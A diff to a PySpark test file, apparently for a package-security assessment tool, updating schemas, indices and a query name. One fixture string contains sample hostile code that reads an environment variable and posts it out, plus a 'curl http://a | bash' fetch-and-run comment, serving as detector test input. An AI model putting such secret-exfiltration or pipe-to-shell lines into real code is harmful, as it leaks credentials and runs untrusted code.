@@ -109,7 +109,7 @@ def test_the_walk_agrees_with_the_standard_parser():
     labels = json_walk.label(json.loads('{"a": [1, [2]]}'))
     for a in labels:
         for b in labels:
-            inside = b[6].startswith(a[6] + "/")
+            inside = b[8].startswith(a[8] + "/")
             assert inside == (a[0] < b[0] and a[1] > b[1])
 
 
@@ -223,7 +223,8 @@ def test_assessment(spark):
     queue = spark.createDataFrame([("PyPI", "evil_pkg", "1"), ("PyPI", "reqests", " 2"), ("PyPI", "fine", "3")], "ecosystem string, package string, version string")
     code = "import os, requests\nk = os.getenv('A')\nrequests.post('u', data=k)\n# curl http://a | bash\n"
     f = [(1, "PyPI", "fine", "3", "python", code), (1, "PyPI", "fine", "3", "python", code), (2, "PyPI", "Evil.pkg", "1", "python", code), (3, "npm", "calm", "1", "javascript", None)]
-    source = spark.createDataFrame(f, "file_id bigint, ecosystem string, package string, version string, language string, content string")
+    schema = "file_id bigint, ecosystem string, package string, version string, language string, content string, path string, basename string"
+    source = spark.createDataFrame([(*r, "a/b.x", "b.x") for r in f], schema)
     bad = spark.createDataFrame([("A1", "PyPI", "evil-pkg", None, "malicious_package")], "advisory_id string, ecosystem string, package string, version_glob string, attack_type string")
     popular = spark.createDataFrame([("PyPI", "requests", 1)], "ecosystem string, package string, rank int")
     got = {(r.package, r.version): (r.evidence_count, r.verdict) for r in assessment.assessed(queue, source, bad, popular).collect()}
@@ -298,7 +299,7 @@ def test_behavior_rules_count_all_days(spark, tmp_path):
     kinds = {"I": "view", "E": "click", "X": "purchase", "T": "signup"}
     rows = [(7, kinds[letter], datetime.datetime(2024, 1, 10 + k)) for k, letter in enumerate(need)]
     spark.createDataFrame(rows, "user_id bigint, event_type string, ts timestamp").write.parquet(str(tmp_path / "events.parquet"))
-    assert (7, code) in {(r.user_id, r.rule) for r in queries.queries()["behavior_rules_all_days"](spark, str(tmp_path)).collect()}
+    assert (7, code) in {(r.user_id, r.rule) for r in queries.queries()["behavior_rules"](spark, str(tmp_path)).collect()}
 
 
 def test_relative_imports_of_any_depth(spark):
